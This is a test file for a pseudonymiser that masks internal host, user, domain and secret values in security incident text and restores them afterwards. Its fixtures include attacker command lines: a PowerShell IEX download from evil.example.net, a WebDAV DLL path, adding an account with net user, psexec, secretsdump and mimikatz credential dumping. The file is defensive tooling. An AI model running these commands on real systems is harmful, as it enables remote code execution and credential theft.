import { array, assert, constantFrom, integer, property, record, string, tuple } from 'fast-check';
import { describe, expect, it } from 'vitest';
import { isGeneric } from './generic-names.ts';
import { standIn } from './name-table.ts';
import { restoring } from './restoring.ts';
import { pseudonymise } from './pseudonymise.ts';

const nothing = { hosts: [], users: [], domains: [] };
const known = {
  hosts: ['WS01.contoso.com', 'FILESRV2'],
  users: ['CONTOSO\\alice', 'bob.jones@contoso.com', 'NT AUTHORITY\\SYSTEM', 'Administrator'],
  domains: [],
};

function sent(text: string, of = known): string {
  const { text: told, pseudonyms } = pseudonymise(text, of);
  expect(restored(told, pseudonyms)).toBe(text);
  return told;
}

/** The text with names again, as it comes in pieces of this size. */
function restored(text: string, pseudonyms: ReturnType<typeof pseudonymise>['pseudonyms'], size = 1000): string {
  const restorer = restoring(pseudonyms);
  let told = '';
  for (let at = 0; at < text.length; at += size) told += restorer.push(text.slice(at, at + size));
  return told + restorer.flush();
}

describe('names of the own network leave as stand-ins', () => {
  it.each([
    ['a name in any capitals', 'ws01 WS01 Ws01', 'ANON-HOST-001A ANON-HOST-001B ANON-HOST-001C'],
    ['a full name', 'ws01.contoso.com', 'ANON-HOST-001A.ANON-DOMAIN-001A'],
    ['a path', 'C:\\Users\\alice\\evil.exe', 'C:\\Users\\ANON-USER-001A\\evil.exe'],
    ['a share', '\\\\filesrv2\\c$\\x.exe', '\\\\ANON-HOST-001A\\c$\\x.exe'],
    ['a realm and an account', 'CONTOSO\\bob.jones', 'ANON-DOMAIN-001A\\ANON-USER-001A'],
    ['an account and a realm', 'bob.jones@contoso.com', 'ANON-USER-001A@ANON-DOMAIN-001A'],
    ['a machine account', 'WS01$', 'ANON-HOST-001A$'],
    ['a host that only the text names', 'web9.contoso.com', 'ANON-HOST-001A.ANON-DOMAIN-001A'],
    ['within a file name', 'WS01_Security.evtx', 'ANON-HOST-001A_Security.evtx'],
    ['a private address', 'curl http://10.1.2.3:8080/x', 'curl http://ANON-ADDR-001A:8080/x'],
    ['a private address of version 6', 'from fd00::12 to', 'from ANON-ADDR-001A to'],
    ['a domain in a SID', 'S-1-5-21-1-22-333-500', 'ANON-SID-001A-500'],
    ['an ARN', 'arn:aws:iam::123456789012:user/carol', 'arn:aws:iam::ANON-ACCOUNT-001A:user/ANON-USER-001A'],
    ['what looks like a stand-in', 'ANON-HOST-001A', 'ANON-TEXT-001AHOST-001A'],
  ])('%s', (_, text, told) => {
    expect(sent(text)).toBe(told);
  });

  it.each([
    ['net user mallory Winter2026! /add', 'Winter2026!'],
    ['net use \\\\FILESRV2\\c$ Winter2026! /user:CONTOSO\\alice', 'Winter2026!'],
    ['psexec \\\\ws01 -u CONTOSO\\alice -p "Winter 2026!" cmd', 'Winter 2026!'],
    ['schtasks /create /ru alice /rp Winter2026!', 'Winter2026!'],
    ['Server=db1;User Id=sa;Password=Winter2026!;', 'Winter2026!'],
    ['curl -u alice:Winter2026! https://x.example.net', 'Winter2026!'],
    ['git clone https://bot:Winter2026!@git.example.net/x', 'Winter2026!'],
    ['Authorization: Bearer abcdef0123456789', 'abcdef0123456789'],
    ['export AWS_SECRET_ACCESS_KEY=wJalrXUtnFEMI/K7MDENG/bPxRfiCYzz', 'wJalrXUtnFEMI/K7MDENG/bPxRfiCYzz'],
    ['aws configure set x AKIAIOSFODNN7EXAMPLQ', 'AKIAIOSFODNN7EXAMPLQ'],
    ['DefaultEndpointsProtocol=https;AccountKey=Zm9vYmFyYmF6cXV4Zm9v==;', 'Zm9vYmFyYmF6cXV4Zm9v=='],
    ['ConvertTo-SecureString "Winter2026!" -AsPlainText', 'Winter2026!'],
    ['sshpass -p Winter2026! ssh root@203.0.113.9', 'Winter2026!'],
    ['mysql -h db1 -u root -pWinter2026!', 'Winter2026!'],
    ['secretsdump -hashes aad3b435b51404ee:31d6cfe0d16ae931 x', 'aad3b435b51404ee:31d6cfe0d16ae931'],
    ['--token=ghp_0123456789abcdefghij0123456789abcdef', 'ghp_0123456789abcdefghij0123456789abcdef'],
  ])('the secret in %s', (line, secret) => {
    const told = sent(`${line} | again ${secret}`);
    expect(told).not.toContain(secret);
  });

  it('encoded text that names them', () => {
    const encoded = Buffer.from('Copy-Item \\\\filesrv2\\share', 'utf16le').toString('base64');
    expect(sent(`powershell -enc ${encoded}`)).toBe('powershell -enc ANON-BLOB-001A');
    const harmless = Buffer.from('Get-Process | Sort-Object', 'utf16le').toString('base64');
    expect(sent(`powershell -enc ${harmless}`)).toContain(harmless);
  });
});

it.each([
  'powershell IEX http://evil.example.net/a.ps1 from 203.0.113.7 or 110.1.2.3',
  '\\\\evil.example.net@SSL\\DavWWWRoot\\x.dll',
  'SHA256=9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08',
  'NT AUTHORITY\\SYSTEM BUILTIN\\Administrators S-1-5-18 C:\\Windows\\System32\\cmd.exe C:\\Users\\Public\\x.exe',
  'mimikatz sekurlsa::logonpasswords T1003.001 CVE-2021-44228 127.0.0.1 169.254.169.254',
])('what attackers bring along stays: %s', (text) => {
  expect(sent(text)).toBe(text);
});

describe('whatever the brief', () => {
  const word = string({ unit: constantFrom(...'abcdefghijklmnopqrstuvwxyz'.split('')), minLength: 4, maxLength: 12 });
  const name = tuple(word, integer({ min: 1, max: 999 }))
    .map(([text, number]) => `${text}${number}`)
    .filter((text) => !isGeneric(text));
  const capitals = constantFrom<(text: string) => string>(
    (text) => text,
    (text) => text.toUpperCase(),
    (text) => text.charAt(0).toUpperCase() + text.slice(1),
  );
  const shapes = constantFrom<(of: { host: string; user: string; domain: string; secret: string }) => string>(
    ({ host }) => `\\\\${host}\\share\\x`,
    ({ host, domain }) => `ping ${host}.${domain}.com`,
    ({ user }) => `C:\\Users\\${user}\\AppData`,
    ({ user }) => `/home/${user}/.ssh`,
    ({ user, domain }) => `${domain}\\${user}`,
    ({ user, domain }) => `${user}@${domain}.com`,
    ({ user, secret }) => `net user ${user} ${secret} /add`,
    ({ secret }) => `app --password=${secret}`,
    ({ host, domain }) => `ldap://${host}/CN=x,DC=${domain},DC=com`,
    ({ host }) => `powershell -enc ${Buffer.from(`Enter-PSSession ${host} # ${host}`, 'utf16le').toString('base64')}`,
    ({ host }) => `${host}_Security.evtx ${host}$`,
    () => 'x ANON-HOST-001A anon-USER-000 ~ ANON-',
  );
  const own = record({ host: name, user: name, domain: name, secret: name });
  const brief = tuple(own, array(tuple(shapes, capitals, string({ maxLength: 20 })), { maxLength: 12 }));

  it('no name of the own network is in what is sent, and it comes back as it was', () => {
    assert(
      property(brief, integer({ min: 1, max: 40 }), ([of, lines], size) => {
        const { host, user, domain } = of;
        const spelled = (change: (text: string) => string) => ({
          host: change(host),
          user: change(user),
          domain: change(domain),
          secret: of.secret,
        });
        const text = lines.map(([shape, change, noise]) => `${shape(spelled(change))} ${noise}`).join('\n');
        const names = { hosts: [`${host}.${domain}.com`], users: [`${domain}\\${user}`], domains: [] };
        const { text: told, pseudonyms } = pseudonymise(text, names);
        expect(restored(told, pseudonyms, size)).toBe(text);
        const bare = told.replaceAll(standIn, ' ').toLowerCase();
        for (const one of Object.values(of)) expect(bare).not.toContain(one.toLowerCase());
        for (const [blob] of bare.matchAll(/[a-z\d+/]{16,}/g)) expect(text.toLowerCase()).toContain(blob);
      }),
      { numRuns: 400 },
    );
  });

  it('any text at all comes back as it was', () => {
    assert(
      property(string({ unit: 'binary', maxLength: 200 }), array(string(), { maxLength: 4 }), (text, users) => {
        const { text: told, pseudonyms } = pseudonymise(text, { ...nothing, users });
        expect(restored(told, pseudonyms)).toBe(text);
      }),
    );
  });
});
